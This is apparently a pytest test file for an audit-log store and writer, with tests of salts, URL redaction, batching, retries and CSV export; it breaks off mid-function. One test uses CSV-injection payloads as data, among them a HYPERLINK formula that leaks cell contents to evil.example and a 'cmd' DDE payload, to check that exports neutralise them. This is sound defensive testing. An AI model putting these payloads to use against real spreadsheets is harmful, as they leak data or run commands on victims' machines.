"""The audit store and writer: schema, queries, feedback, CSV, overflow accounting, URLs."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import errno
import importlib.util
import logging
import math
import os
import random
import sqlite3
import subprocess
import sys
import threading
import time
import types
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from hybridroute.errors import ConfigError
from hybridroute.monitoring.audit import (
    COLUMNS,
    COMMITTED,
    DROPPED,
    FAILED,
    RETRYING,
    AuditRecord,
    AuditWriter,
    PostgresAuditStore,
    SQLiteAuditStore,
    csv_cell,
    iso_time,
    load_or_create_salt,
    open_audit_reader,
    open_audit_store,
    parse_time,
    redact_url,
    select_sql,
    text_hash,
)
from support.files import EFBIG, run_with_file_size_limit


def record(i: int, tier: str = "edge", reason: str = "confident", at: float | None = None) -> AuditRecord:
    return AuditRecord(
        time=1_700_000_000.0 + i if at is None else at,
        request_id=f"req-{i}",
        text_hash=text_hash(f"text {i}", b"salt"),
        text=None,
        label="positive",
        confidence=0.9,
        tier=tier,
        reason=reason,
        latency_ms=3.0,
        edge_latency_ms=1.0,
        cloud_latency_ms=None if tier == "edge" else 40.0,
        cost=0.001,
        model_version="m1",
        edge_model_version="m1",
        edge_label="positive",
        edge_confidence=0.9,
    )


@pytest.fixture
def store(tmp_path: Path) -> SQLiteAuditStore:
    s = SQLiteAuditStore(tmp_path / "audit.sqlite")
    yield s
    s.close()


# ---------------------------------------------------------------- helpers


def test_text_hash_depends_on_text_and_salt() -> None:
    assert text_hash("hi", b"a") == text_hash("hi", b"a")
    assert text_hash("hi", b"a") != text_hash("hi", b"b")
    assert text_hash("hi", b"a") != text_hash("ho", b"a")
    assert len(text_hash("hi", b"a")) == 64


def test_salt_is_created_once_private_and_reused(tmp_path: Path) -> None:
    path = tmp_path / "audit.salt"
    first = load_or_create_salt(path)
    assert load_or_create_salt(path) == first and len(first) == 64
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    path.write_text("")
    with pytest.raises(ConfigError, match="empty"):
        load_or_create_salt(path)


def test_a_salt_file_that_is_not_text_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "audit.salt"
    path.write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(ConfigError, match="not text"):
        load_or_create_salt(path)
    path.write_text(" \n")
    with pytest.raises(ConfigError, match="empty"):
        load_or_create_salt(path)


def test_processes_starting_at_once_all_get_the_same_salt(tmp_path: Path) -> None:
    """Eight processes race through 100 fresh salt files: for each, every process reads the one salt created."""
    go, files = tmp_path / "go", [tmp_path / "salts" / f"{i}.salt" for i in range(100)]
    script = f"""
import os, time
from hybridroute.monitoring.audit import load_or_create_salt
while not os.path.exists({str(go)!r}):
    time.sleep(0.001)
for path in {[str(f) for f in files]!r}:
    print(load_or_create_salt(path).decode())
"""
    children = [
        subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(8)
    ]
    time.sleep(0.5)  # let every child reach the starting line
    go.touch()
    outputs = [child.communicate(timeout=120) for child in children]
    assert all(child.returncode == 0 for child in children), [err for _, err in outputs]
    seen = [out.split() for out, _ in outputs]
    assert all(salts == seen[0] for salts in seen) and len(set(seen[0])) == len(files)
    assert all(f.read_text(encoding="utf-8").strip() == salt for f, salt in zip(files, seen[0], strict=True))
    assert {oct(f.stat().st_mode & 0o777) for f in files} == {"0o600"}
    assert sorted(p.name for p in (tmp_path / "salts").iterdir()) == sorted(f.name for f in files)  # no temp left


def test_a_salt_creation_cut_off_midway_leaves_no_salt(tmp_path: Path) -> None:
    """A crash (here: a file-size limit) while the salt is written must not leave a short salt to be used later."""
    path = tmp_path / "audit.salt"
    result = run_with_file_size_limit(
        "from hybridroute.monitoring.audit import load_or_create_salt",
        f"""
try:
    load_or_create_salt({str(path)!r})
except OSError as exc:
    print(exc.errno)
""",
        limit=16,
    )
    assert result.stdout.strip() == EFBIG, result.stderr  # the write really was cut off
    assert list(tmp_path.iterdir()) == []
    assert len(load_or_create_salt(path)) == 64  # the next start makes a whole one


def test_times_parse_as_utc_unless_they_carry_an_offset() -> None:
    assert parse_time("1970-01-02") == 86400.0
    assert parse_time("1970-01-01T01:00:00+01:00") == 0.0
    with pytest.raises(ConfigError, match="ISO 8601"):
        parse_time("yesterday")


def test_select_sql_builds_filters_and_checks_them() -> None:
    sql, params = select_sql("?", 1.0, 2.0, "edge", "confident", 5)
    assert "time >= ? AND time < ? AND tier = ? AND reason = ?" in sql and sql.endswith("LIMIT 5")
    assert params == [1.0, 2.0, "edge", "confident"]
    with pytest.raises(ConfigError, match="tier"):
        select_sql("?", None, None, "moon", None, None)
    with pytest.raises(ConfigError, match="limit"):
        select_sql("?", None, None, None, None, 0)


def test_redact_url_hides_the_password() -> None:
    assert redact_url("postgresql://u:secret@h:5432/db") == "postgresql://u:***@h:5432/db"
    assert redact_url("postgresql://h/db") == "postgresql://h/db"


def test_redact_url_hides_a_password_given_as_a_parameter() -> None:
    assert redact_url("postgresql://127.0.0.1:1/db?user=u&password=s3cret") == (
        "postgresql://127.0.0.1:1/db?user=u&password=***"
    )
    assert redact_url("postgresql://h/db?PASSWORD=a@b&sslmode=require") == (
        "postgresql://h/db?PASSWORD=***&sslmode=require"
    )
    assert redact_url("postgresql://u:pw@h/db?password=x") == "postgresql://u:***@h/db?password=***"
    assert redact_url("postgresql://h/db?passfile=/p&user=u") == "postgresql://h/db?passfile=/p&user=u"


# ---------------------------------------------------------------- SQLite store


def test_the_reader_reads_an_existing_log(store: SQLiteAuditStore) -> None:
    store.write_many([record(1), record(2)])
    reader = open_audit_reader(store.path)
    try:
        assert [r.request_id for r in reader.query()] == ["req-1", "req-2"]
    finally:
        reader.close()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "holds no audit log"),  # SQLite would take an empty file as a new database
        (b"time,label\n1,positive\n", "file is not a database"),
    ],
)
def test_the_reader_refuses_other_files_and_leaves_them_unchanged(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "not-an-audit-log"
    path.write_bytes(content)
    with pytest.raises(ConfigError, match=message):
        open_audit_reader(path)
    assert path.read_bytes() == content  # no audit schema written into a mistyped --db
    with pytest.raises(ConfigError, match="does not exist"):
        open_audit_reader(tmp_path / "missing.db")
    with pytest.raises(ConfigError, match="is a folder; pass the SQLite file"):
        open_audit_reader(tmp_path)


def test_the_reader_refuses_an_audit_table_that_is_not_a_hybridroute_log(tmp_path: Path) -> None:
    path = tmp_path / "other.sqlite"
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE audit (x)")
        connection.commit()
    missing = r"not a hybridroute audit log \(missing columns: id, time, request_id"
    with pytest.raises(ConfigError, match=missing) as info:
        open_audit_reader(path)
    assert "\n" not in str(info.value) and str(path) in str(info.value)


@pytest.mark.parametrize("parent", ["a-file", "/proc"])
def test_an_audit_database_whose_folder_cannot_be_made_is_a_config_error(tmp_path: Path, parent: str) -> None:
    folder = tmp_path / parent if parent == "a-file" else Path(parent)
    if parent == "a-file":
        folder.write_text("not a folder\n")
    elif not folder.is_dir():
        pytest.skip("no /proc here")
    with pytest.raises(ConfigError, match=r"cannot create the folder of the audit database .*x\.sqlite: \w"):
        SQLiteAuditStore(folder / "sub" / "x.sqlite")


@pytest.mark.parametrize(("synchronous", "pragma"), [(None, 1), ("NORMAL", 1), ("FULL", 2)])
def test_sqlite_store_runs_in_wal_with_the_configured_synchronous_mode(
    tmp_path: Path, synchronous: str | None, pragma: int
) -> None:
    path = tmp_path / "audit.sqlite"
    store = SQLiteAuditStore(path) if synchronous is None else SQLiteAuditStore(path, synchronous=synchronous)
    try:
        with store._lock:  # synchronous is a setting of each connection: read the store's own
            assert store._connection.execute("PRAGMA synchronous").fetchone()[0] == pragma  # NORMAL 1, FULL 2
    finally:
        store.close()
    with contextlib.closing(sqlite3.connect(path)) as other:  # WAL is a setting of the file: any connection sees it
        assert other.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_sqlite_store_uses_wal_and_indexes(store: SQLiteAuditStore) -> None:
    assert store.journal_mode() == "wal"
    with sqlite3.connect(store.path) as db:
        indexes = {row[1] for row in db.execute("SELECT * FROM sqlite_master WHERE type = 'index'")}
        columns = [row[1] for row in db.execute("PRAGMA table_info(audit)")]
    assert {"audit_time", "audit_tier", "audit_reason"} <= indexes
    assert any("autoindex_audit" in name for name in indexes)  # request_id UNIQUE
    assert columns[1:] == list(COLUMNS)


def test_write_query_and_filters(store: SQLiteAuditStore) -> None:
    store.write_many([record(0), record(1, "cloud", "low_confidence"), record(2), record(3, "cloud", "low_confidence")])
    assert store.count() == 4
    assert [r.request_id for r in store.query()] == ["req-0", "req-1", "req-2", "req-3"]
    assert [r.request_id for r in store.query(tier="cloud")] == ["req-1", "req-3"]
    assert [r.request_id for r in store.query(reason="confident", limit=1)] == ["req-0"]
    assert [r.request_id for r in store.query(since=1_700_000_001.0, until=1_700_000_003.0)] == ["req-1", "req-2"]
    assert store.query()[1] == record(1, "cloud", "low_confidence")  # round trip, None and bool included


def test_feedback_updates_a_known_request_only(store: SQLiteAuditStore) -> None:
    store.write_many([record(0)])
    assert store.add_feedback("req-0", "negative", 1_800_000_000.0)
    assert not store.add_feedback("req-unknown", "negative", 1.0)
    (row,) = store.query()
    assert row.feedback_label == "negative" and row.feedback_time == 1_800_000_000.0


def test_dropped_counter_accumulates_in_the_same_transaction(store: SQLiteAuditStore) -> None:
    assert store.dropped() == 0
    store.write_many([record(0)], dropped=3)
    store.write_many([], dropped=2)
    assert store.dropped() == 5 and store.count() == 1


def test_export_csv_writes_filtered_rows_with_iso_times(store: SQLiteAuditStore, tmp_path: Path) -> None:
    store.write_many([record(0), record(1, "cloud", "low_confidence")])
    out = tmp_path / "out.csv"
    assert store.export_csv(out, tier="cloud") == 1
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert len(rows) == 1 and tuple(rows[0]) == COLUMNS
    assert rows[0]["request_id"] == "req-1" and rows[0]["time"].startswith("2023-11-14T22:13:21")


def test_an_export_cut_off_midway_leaves_the_earlier_export(store: SQLiteAuditStore, tmp_path: Path) -> None:
    store.write_many([record(i) for i in range(20)])
    db = tmp_path / "audit.sqlite"
    out = tmp_path / "out.csv"
    out.write_text("earlier export\n", encoding="utf-8")
    result = run_with_file_size_limit(
        f"from hybridroute.monitoring.audit import SQLiteAuditStore\nstore = SQLiteAuditStore({str(db)!r})",
        f"""
try:
    store.export_csv({str(out)!r})
except OSError as exc:
    print(exc.errno)
""",
        limit=1024,  # the 20 rows need more; the database is only read
    )
    assert result.stdout.strip() == EFBIG, result.stderr
    assert out.read_text(encoding="utf-8") == "earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".csv" or p.name.endswith(".tmp")) == ["out.csv"]


def test_a_duplicate_request_id_rolls_the_whole_batch_back(store: SQLiteAuditStore) -> None:
    store.write_many([record(0)])
    with pytest.raises(sqlite3.IntegrityError):
        store.write_many([record(1), record(0)])
    assert store.count() == 1


def test_open_audit_store_accepts_paths_and_sqlite_urls(tmp_path: Path) -> None:
    for target in (tmp_path / "a.sqlite", f"sqlite:///{tmp_path / 'b.sqlite'}"):
        s = open_audit_store(target)
        assert isinstance(s, SQLiteAuditStore)
        s.close()
    assert (tmp_path / "b.sqlite").is_file()
    with pytest.raises(ConfigError, match="unknown scheme"):
        open_audit_store("mysql://u:pw@h/db")


@pytest.mark.skipif(importlib.util.find_spec("psycopg") is not None, reason="psycopg is installed here")
def test_postgres_without_psycopg_is_a_clear_config_error() -> None:
    with pytest.raises(ConfigError, match=r"u:\*\*\*@localhost.*psycopg"):
        open_audit_store("postgresql://u:pw@localhost/db")


@pytest.mark.skipif(
    importlib.util.find_spec("psycopg") is None or not os.environ.get("HYBRIDROUTE_TEST_POSTGRES_URL"),
    reason="needs psycopg and a server: set HYBRIDROUTE_TEST_POSTGRES_URL=postgresql://... to run",
)
def test_postgres_store_behaves_like_sqlite() -> None:
    store = open_audit_store(os.environ["HYBRIDROUTE_TEST_POSTGRES_URL"])
    assert isinstance(store, PostgresAuditStore)
    try:
        with store._lock:  # a clean table for this test
            store._connection.execute("DELETE FROM audit")
            store._connection.execute("DELETE FROM audit_meta")
            store._connection.commit()
        store.write_many([record(0), record(1, "cloud", "low_confidence")], dropped=2)
        assert store.count() == 2 and store.dropped() == 2
        assert [r.request_id for r in store.query(tier="cloud")] == ["req-1"]
        assert store.add_feedback("req-0", "negative", 5.0) and not store.add_feedback("nope", "x", 5.0)
        assert dataclasses.replace(record(0), feedback_label="negative", feedback_time=5.0) == store.query()[0]
    finally:
        store.close()


# ---------------------------------------------------------------- writer


class Acks:
    def __init__(self) -> None:
        self.statuses: list[str] = []
        self.event = threading.Event()

    def __call__(self, status: str) -> None:
        self.statuses.append(status)
        self.event.set()


class BlockingStore:
    """Wraps a store; write_many waits until released (to fill the queue) or fails when told."""

    def __init__(self, inner: SQLiteAuditStore) -> None:
        self.inner, self.release, self.fail = inner, threading.Event(), False
        self.transactions: list[int] = []

    def write_many(self, records: Sequence[AuditRecord], dropped: int = 0) -> None:
        self.release.wait(5.0)
        if self.fail:
            raise OSError("disk full")
        self.transactions.append(len(records))
        self.inner.write_many(records, dropped)


@pytest.fixture
def blocking(store: SQLiteAuditStore) -> BlockingStore:
    """A store whose every transaction fails (``disk full``) until ``fail`` is set back to False."""
    failing = BlockingStore(store)
    failing.fail = True
    failing.release.set()
    return failing


def test_writer_commits_everything_in_batches_before_close_returns(store: SQLiteAuditStore) -> None:
    blocking = BlockingStore(store)
    writer = AuditWriter(blocking, capacity=1000, max_batch=50)  # type: ignore[arg-type]
    writer.start()
    acks = Acks()
    assert writer.submit([record(0)], acks)
    while writer.queued:  # the writer takes record 0 and blocks in write_many
        time.sleep(0.001)
    for i in range(1, 200):  # these queue up behind it
        assert writer.submit([record(i)], acks)
    blocking.release.set()
    writer.close()
    assert store.count() == 200 and writer.committed == 200
    assert acks.statuses == [COMMITTED] * 200
    # Group commit: the 199 records queued meanwhile go in full batches of max_batch, never more.
    assert blocking.transactions == [1, 50, 50, 50, 49] and writer.transactions == 5 <= math.ceil(200 / 50) + 1


def test_writer_overflow_is_dropped_counted_durably_and_acknowledged(store: SQLiteAuditStore) -> None:
    blocking = BlockingStore(store)
    drops: list[int] = []
    writer = AuditWriter(blocking, capacity=3, max_batch=10, on_dropped=drops.append)  # type: ignore[arg-type]
    writer.start()
    first, rest, overflow = Acks(), Acks(), Acks()
    assert writer.submit([record(0)], first)
    while writer.queued:  # the writer takes record 0 and blocks in write_many
        time.sleep(0.001)
    assert writer.submit([record(1), record(2)], rest)
    assert writer.submit([record(3)], rest)
    assert not writer.submit([record(4), record(5)], overflow)  # 3 queued + 2 > capacity
    assert drops == [2] and writer.dropped == 2
    blocking.release.set()
    writer.close()
    assert store.count() == 4 and store.dropped() == 2  # every record is a row or counted
    assert overflow.statuses == [DROPPED] and rest.statuses == [COMMITTED, COMMITTED]


def test_a_failed_transaction_is_kept_retried_and_committed_once_the_database_recovers(
    store: SQLiteAuditStore, blocking: BlockingStore
) -> None:
    failed: list[int] = []
    writer = AuditWriter(blocking, on_failed=failed.append, retry_s=0.01, max_retry_s=0.05)  # type: ignore[arg-type]
    writer.start()
    acks = Acks()
    writer.submit([record(0), record(1)], acks)
    assert acks.event.wait(5.0)  # answered at once, not held until the disk is freed
    assert acks.statuses == [RETRYING] and writer.failing and writer.queued == 2
    health = writer.health()
    assert health["ok"] is False and "disk full" in health["error"] and health["failing_since"] is not None
    later = Acks()
    writer.submit([record(2)], later)  # while failing: answered at once too, and kept
    assert later.statuses == [RETRYING]
    blocking.fail = False
    deadline = time.monotonic() + 5.0
    while writer.failing and time.monotonic() < deadline:
        time.sleep(0.01)
    writer.close()
    assert not writer.failing and writer.health()["ok"]
    assert store.count() == 3 and failed == [] and writer.failed == 0  # nothing lost
    assert writer.failed_transactions >= 1


def test_while_failing_the_queue_stays_bounded_and_the_overflow_count_is_committed_later(
    store: SQLiteAuditStore, blocking: BlockingStore
) -> None:
    writer = AuditWriter(blocking, capacity=3, retry_s=0.01, max_retry_s=0.05)  # type: ignore[arg-type]
    writer.start()
    acks = Acks()
    writer.submit([record(0), record(1)], acks)
    assert acks.event.wait(5.0) and writer.failing
    overflow = Acks()
    assert not writer.submit([record(2), record(3)], overflow)  # 2 queued + 2 > capacity 3: dropped, counted
    assert overflow.statuses == [RETRYING] and writer.queued == 2
    blocking.fail = False
    writer.close()
    assert store.count() == 2 and store.dropped() == 2  # every record is a row or in the committed counter


class FailsTheFirstDropCarrier:
    """Wraps a store; waits until released, then fails the first transaction that carries a drop count, once."""

    def __init__(self, inner: SQLiteAuditStore) -> None:
        self.inner, self.release = inner, threading.Event()
        self.attempts: list[tuple[int, int]] = []  # (records, dropped) of every transaction tried

    def write_many(self, records: Sequence[AuditRecord], dropped: int = 0) -> None:
        self.release.wait(5.0)
        self.attempts.append((len(records), dropped))
        if dropped and sum(1 for _, d in self.attempts if d) == 1:
            raise OSError(errno.ENOSPC, "No space left on device")
        self.inner.write_many(records, dropped)


def test_drops_carried_by_a_failed_transaction_are_kept_and_committed_with_the_retry(store: SQLiteAuditStore) -> None:
    faulty = FailsTheFirstDropCarrier(store)
    writer = AuditWriter(faulty, capacity=3, max_batch=10, retry_s=0.01, max_retry_s=0.05)  # type: ignore[arg-type]
    writer.start()
    first, rest, overflow = Acks(), Acks(), Acks()
    assert writer.submit([record(0)], first)
    while writer.queued:  # the writer takes record 0 and blocks in write_many
        time.sleep(0.001)
    assert writer.submit([record(1), record(2), record(3)], rest)  # the queue is full
    assert not writer.submit([record(4), record(5)], overflow)  # dropped: 2 to count with the next transaction
    faulty.release.set()
    writer.close()
    assert faulty.attempts == [(1, 0), (3, 2), (3, 2)]  # the one carrying the drops failed once, then committed
    assert writer.failed_transactions == 1 and writer.failed == 0
    assert store.count() == 4 and store.dropped() == 2 == writer.dropped  # every record is a row or counted
    assert first.statuses == [COMMITTED]
    assert rest.statuses == overflow.statuses == [RETRYING]  # their transaction failed: answered once, at once


def test_records_still_failing_at_close_are_given_up_counted_and_logged(
    store: SQLiteAuditStore, blocking: BlockingStore, caplog: pytest.LogCaptureFixture
) -> None:
    failed: list[int] = []
    writer = AuditWriter(blocking, on_failed=failed.append, retry_s=0.01, max_retry_s=0.04)  # type: ignore[arg-type]
    writer.start()
    writer.submit([record(0), record(1)])
    writer.close()
    assert failed == [2] and writer.failed == 2 and store.count() == 0
    assert "2 records and 0 drops lost" in caplog.text


def test_submit_after_close_fails_cleanly(store: SQLiteAuditStore) -> None:
    writer = AuditWriter(store)
    writer.start()
    writer.close()
    acks = Acks()
    assert not writer.submit([record(0)], acks)
    assert acks.statuses == [FAILED]
    with pytest.raises(ConfigError):
        AuditWriter(store, capacity=0)


def test_old_logs_gain_the_input_profile_columns(tmp_path: Path) -> None:
    old_columns = [c for c in COLUMNS if c not in ("text_length", "unk_rate")]
    connection = sqlite3.connect(tmp_path / "old.db")
    connection.execute(f"CREATE TABLE audit (id INTEGER PRIMARY KEY, {', '.join(old_columns)})")
    old_row = dataclasses.astuple(record(1))[: len(old_columns)]
    connection.execute(
        f"INSERT INTO audit ({', '.join(old_columns)}) VALUES ({', '.join('?' * len(old_columns))})", old_row
    )
    connection.commit()
    connection.close()
    store = SQLiteAuditStore(tmp_path / "old.db")
    store.write_many([dataclasses.replace(record(2), text_length=12, unk_rate=0.25)])
    old, new = store.query()
    assert (old.text_length, old.unk_rate) == (None, None)
    assert (new.text_length, new.unk_rate) == (12, 0.25)
    store.export_csv(tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][-2:] == ["text_length", "unk_rate"] and rows[2][-2:] == ["12", "0.25"]
    store.close()


# ---------------------------------------------------------------- printed times


def test_a_printed_time_works_as_since_and_until(store: SQLiteAuditStore) -> None:
    at = 1733425123.4567897  # a time.time() value whose microseconds would round up
    store.write_many([record(0, at=at)])
    shown = iso_time(at)
    assert shown == "2024-12-05T18:58:43.456789+00:00"  # truncated, not rounded to ...457
    assert [r.request_id for r in store.query(since=parse_time(shown))] == ["req-0"]
    assert store.query(until=parse_time(shown)) == []  # --until is exclusive


def test_a_printed_time_never_lies_after_the_time_it_prints() -> None:
    rng = random.Random(0)
    times = [0.0, -1.5, 1.9999997, 1733425123.4567897, *(rng.uniform(-1e9, 4e9) for _ in range(5000))]
    for at in times:
        back = parse_time(iso_time(at))
        assert back <= at < back + 2e-6, (at, iso_time(at))


# ---------------------------------------------------------------- CSV cells


def test_csv_cell_neutralises_formulas_only() -> None:
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in ("hello", "a=b", "", None, -0.5, 3, True)] == ["hello", "a=b", "", None, -0.5, 3, True]


def test_csv_export_cannot_run_formulas_and_keeps_numbers_numeric(store: SQLiteAuditStore, tmp_path: Path) -> None:
    texts = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tx",
        "\rx",
    ]
    records = [dataclasses.replace(record(i), text=t) for i, t in enumerate(texts)]
    records.append(dataclasses.replace(record(9), text="fine - text", label="=evil()", edge_confidence=-0.25))
    store.write_many(records)
    out = tmp_path / "out.csv"
    assert store.export_csv(out) == len(records)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["text"] for row in rows[:-1]] == ["'" + t for t in texts]
    assert rows[-1]["text"] == "fine - text" and rows[-1]["label"] == "'=evil()"
    assert rows[-1]["edge_confidence"] == "-0.25" and rows[-1]["cost"] == "0.001"  # numbers stay numbers
    assert rows[0]["time"].startswith("2023-11-14T22:13:20")


# ---------------------------------------------------------------- the read-only reader


def test_the_reader_sees_records_not_yet_checkpointed(store: SQLiteAuditStore) -> None:
    store.write_many([record(0), record(1)])
    wal = store.path.with_name(store.path.name + "-wal")
    assert wal.stat().st_size > 0  # the writer is open: the records are still in the write-ahead log
    reader = open_audit_reader(store.path)
    try:
        assert [r.request_id for r in reader.query()] == ["req-0", "req-1"] and reader.count() == 2
        with pytest.raises(sqlite3.OperationalError, match="readonly"):
            reader.add_feedback("req-0", "negative", 1.0)
    finally:
        reader.close()


def test_the_reader_changes_nothing_in_an_old_log(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    old_columns = [c for c in COLUMNS if c not in ("text_length", "unk_rate")]
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute(f"CREATE TABLE audit (id INTEGER PRIMARY KEY, {', '.join(old_columns)})")
        connection.execute(
            f"INSERT INTO audit ({', '.join(old_columns)}) VALUES ({', '.join('?' * len(old_columns))})",
            dataclasses.astuple(record(1))[: len(old_columns)],
        )
        connection.commit()
    before = path.read_bytes()
    reader = open_audit_reader(path)
    try:
        (old,) = reader.query()
        assert old.request_id == "req-1" and (old.text_length, old.unk_rate) == (None, None)
    finally:
        reader.close()
    assert path.read_bytes() == before  # no column added, no WAL switch: a reader leaves the log as it is


# ---------------------------------------------------------------- PostgreSQL, through a fake driver


class FakePostgres:
    """psycopg's ``connect`` over in-memory SQLite that, like PostgreSQL, refuses every statement after an
    error until the transaction is rolled back ("current transaction is aborted")."""

    def __init__(self) -> None:
        self.db = sqlite3.connect(":memory:", check_same_thread=False)
        self.statements: list[str] = []
        self.fail_on: str | None = None  # the next statement starting with this fails
        self.aborted = False
        self.rollbacks = 0

    def connect(self, url: str) -> FakePostgres:
        return self

    def cursor(self) -> FakeCursor:
        return FakeCursor(self)

    def commit(self) -> None:
        self.db.commit()

    def rollback(self) -> None:
        self.db.rollback()
        self.aborted = False
        self.rollbacks += 1

    def close(self) -> None:
        pass


class FakeCursor:
    def __init__(self, server: FakePostgres) -> None:
        self.server, self.inner = server, server.db.cursor()

    @property
    def description(self) -> Any:
        return self.inner.description

    @property
    def rowcount(self) -> int:
        return self.inner.rowcount

    def execute(self, sql: str, params: Sequence[Any] = ()) -> None:
        self._run(sql, lambda translated: self.inner.execute(translated, params))

    def executemany(self, sql: str, rows: Sequence[Sequence[Any]]) -> None:
        self._run(sql, lambda translated: self.inner.executemany(translated, rows))

    def fetchall(self) -> list[Any]:
        return self.inner.fetchall()

    def fetchone(self) -> Any:
        return self.inner.fetchone()

    def _run(self, sql: str, call: Callable[[str], object]) -> None:
        server = self.server
        if server.aborted:
            raise sqlite3.OperationalError("current transaction is aborted, commands ignored until end of block")
        server.statements.append(sql)
        if server.fail_on and sql.lstrip().startswith(server.fail_on):
            server.fail_on, server.aborted = None, True
            raise sqlite3.OperationalError("canceling statement due to statement timeout")
        try:
            call(
                sql.replace("%s", "?").replace("BIGINT GENERATED ALWAYS AS IDENTITY PRIMARY KEY", "INTEGER PRIMARY KEY")
            )
        except sqlite3.Error:
            server.aborted = True
            raise


PG_URL = "postgresql://auditor:pw@db.internal/audit"


@pytest.fixture
def postgres(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakePostgres]:
    server = FakePostgres()
    monkeypatch.setitem(sys.modules, "psycopg", types.SimpleNamespace(connect=server.connect, Error=sqlite3.Error))
    yield server
    server.db.close()


def test_a_postgres_reader_creates_no_schema(postgres: FakePostgres) -> None:
    with pytest.raises(ConfigError, match=r"auditor:\*\*\*@db.internal/audit has no readable audit table"):
        open_audit_reader(PG_URL)
    assert postgres.statements and not any(s.lstrip().startswith(("CREATE", "ALTER")) for s in postgres.statements)
    assert postgres.rollbacks == 1 and not postgres.aborted


def test_a_postgres_reader_reads_an_older_log_without_changing_it(postgres: FakePostgres) -> None:
    old_columns = [c for c in COLUMNS if c not in ("text_length", "unk_rate")]
    postgres.db.execute(f"CREATE TABLE audit (id INTEGER PRIMARY KEY, {', '.join(old_columns)})")
    postgres.db.execute(
        f"INSERT INTO audit ({', '.join(old_columns)}) VALUES ({', '.join('?' * len(old_columns))})",
        dataclasses.astuple(record(1))[: len(old_columns)],
    )
    reader = open_audit_reader(PG_URL)
    (old,) = reader.query()
    assert old.request_id == "req-1" and (old.text_length, old.unk_rate) == (None, None)
    assert all(s.lstrip().startswith("SELECT") for s in postgres.statements)


@pytest.mark.parametrize("statement", ["UPDATE", "SELECT"])
def test_a_failed_statement_is_rolled_back_so_the_shared_connection_keeps_working(
    postgres: FakePostgres, statement: str
) -> None:
    store = open_audit_store(PG_URL)
    store.write_many([record(0)])
    postgres.fail_on = statement
    with pytest.raises(sqlite3.OperationalError, match="statement timeout"):
        if statement == "UPDATE":
            store.add_feedback("req-0", "negative", 5.0)
        else:
            store.query()
    assert postgres.rollbacks == 1
    assert store.count() == 1 and store.add_feedback("req-0", "negative", 5.0)  # not "transaction is aborted"


# ---------------------------------------------------------------- writer: close, backoff


def test_submit_after_close_is_counted_as_failed_for_the_metric_too(store: SQLiteAuditStore) -> None:
    failed: list[int] = []
    writer = AuditWriter(store, on_failed=failed.append)
    writer.start()
    writer.close()
    acks = Acks()
    assert not writer.submit([record(0), record(1)], acks)
    assert acks.statuses == [FAILED] and writer.failed == 2 and failed == [2] and writer.health()["lost"] == 2


class FullDisk:
    """A store whose every transaction fails with ENOSPC; records the time of each attempt."""

    def __init__(self) -> None:
        self.attempts: list[float] = []

    def write_many(self, records: Sequence[AuditRecord], dropped: int = 0) -> None:
        self.attempts.append(time.monotonic())
        raise OSError(errno.ENOSPC, "No space left on device")


def test_the_retry_backoff_is_not_cut_short_by_new_submissions() -> None:
    disk = FullDisk()
    failed: list[int] = []
    writer = AuditWriter(disk, on_failed=failed.append, retry_s=0.05, max_retry_s=2.0)  # type: ignore[arg-type]
    writer.start()
    submitted, end = 0, time.monotonic() + 0.6
    while time.monotonic() < end:  # traffic at up to ~1000 submissions/s
        writer.submit([record(submitted)])
        submitted += 1
        time.sleep(0.001)
    attempts = len(disk.attempts)
    writer.close(timeout_s=0.2)
    assert submitted > 100
    assert 2 <= attempts <= 6  # at 0, 0.05, 0.15, 0.35 s (next 0.75 s): the backoff, not one per submission
    assert writer.failed == submitted and sum(failed) == submitted  # given up at the deadline, counted


@pytest.fixture
def locked_log(tmp_path: Path) -> Iterator[tuple[Path, sqlite3.Connection]]:
    """An audit log another connection holds with ``BEGIN EXCLUSIVE`` (a backup, a maintenance job)."""
    path = tmp_path / "audit.sqlite"
    SQLiteAuditStore(path).close()
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    yield path, other
    if other.in_transaction:
        other.execute("ROLLBACK")
    other.close()


def test_close_gives_up_a_transaction_stuck_behind_a_lock_and_counts_it(
    locked_log: tuple[Path, sqlite3.Connection], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.ERROR, "hybridroute.monitoring.audit")
    store = SQLiteAuditStore(locked_log[0], busy_timeout_s=1.0)  # the first transaction waits 1 s for the lock
    failed: list[int] = []
    writer = AuditWriter(store, on_failed=failed.append)
    writer.start()
    acks = Acks()
    writer.submit([record(i) for i in range(5)], acks)
    started = time.monotonic()
    writer.close(timeout_s=0.2)
    assert time.monotonic() - started < 0.9  # close keeps its deadline although the transaction still runs
    assert writer.failed == 5 and failed == [5] and writer.health()["lost"] == 5 and acks.statuses == [FAILED]
    assert "did not finish within 0.2 s" in caplog.text and "5 records and 0 drops lost" in caplog.text
    writer._thread.join(5.0)  # the stuck transaction times out; the writer stops without another attempt
    assert not writer._thread.is_alive() and writer.failed_transactions == 1 and writer.failed == 5
    store.close()


def test_a_closing_writer_stops_retrying_at_its_deadline(
